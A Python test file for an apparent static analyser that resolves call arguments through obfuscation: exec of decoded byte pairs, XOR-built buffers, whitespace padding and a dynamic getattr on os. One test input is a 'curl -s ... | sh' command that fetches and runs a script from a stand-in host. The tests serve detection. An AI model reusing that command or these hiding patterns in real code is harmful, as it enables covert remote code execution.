"""Functions that are called many times give what they give each time, where all that they are given is known."""

from __future__ import annotations

import hashlib

from pratique.artifact import Member, Role
from pratique.facts.python.model import Call
from pratique.facts.python.reader import read_python


def _calls(source: str) -> list[Call]:
    data = source.encode()
    digest = hashlib.sha256(data).hexdigest()
    member = Member(path="m.py", data=data, sha256=digest, size=len(data), role=Role.MODULE)  # type: ignore[arg-type]
    return list(read_python(member).calls)


def test_a_lambda_that_gives_numbers_is_run_for_each_of_many_constants() -> None:
    """A text that is the difference of two lists is known."""
    text = "print('a text of some length, letter by letter')"
    rows = [(byte + 9, 9) for byte in text.encode()]
    calls = _calls(f"exec(bytes(map(lambda p: p[0] - p[1], {rows})).decode())\n")
    assert [c.arguments["0"].text for c in calls if c.name == "exec"] == [text]


def test_bytes_that_an_unknown_one_was_put_into_are_not_known() -> None:
    """What is executed then is not empty, but unknown."""
    source = "import thing\nout = bytearray()\nfor b in b'abc':\n    out.append(b ^ thing.key())\nexec(bytes(out))\n"
    assert [c.arguments["0"].known for c in _calls(source) if c.name == "exec"] == [False]


def test_a_command_says_what_an_unknown_name_does_with_it() -> None:
    """Handed to whatever a text chooses, a command that fetches a program and runs it is run."""
    source = "import os, thing\ngetattr(os, thing.of(os))('curl -s https://stage.example.invalid/a | sh')\n"
    assert [c.arguments["0"].text for c in _calls(source) if c.name == "getattr()"]
    assert not [c for c in _calls(source.replace("curl -s", "see")) if c.name == "getattr()"]


def test_a_function_that_acts_is_read_for_each_new_text() -> None:
    """However often it was called with another one before."""
    lines = "".join(f"run('echo {i}')\n" for i in range(60))
    calls = _calls(f"import os\ndef run(c):\n    os.system(c)\nrun('true')\n{lines}run('echo last')\n")
    assert {c.arguments["0"].text for c in calls} >= {"true", "echo 59", "echo last"}


def test_a_loop_that_acts_is_turned_for_each_new_text() -> None:
    """The last of three hundred may be the one that matters; the same text again is not."""
    calls = _calls(f"import os\nfor c in {['echo a'] * 300 + ['echo last']}:\n    os.system(c)\n")
    assert "echo last" in {c.arguments["0"].text for c in calls}
    assert len(calls) < 12


def test_a_text_behind_a_screen_of_blanks_is_shown() -> None:
    """What is cut off is the end of what is said, not of what is hidden."""
    calls = _calls(f"import os\nos.system('true {' ' * 5_000}; last')\n")
    assert [c.arguments["0"].text for c in calls if c.name == "os.system"] == ["true ; last"]
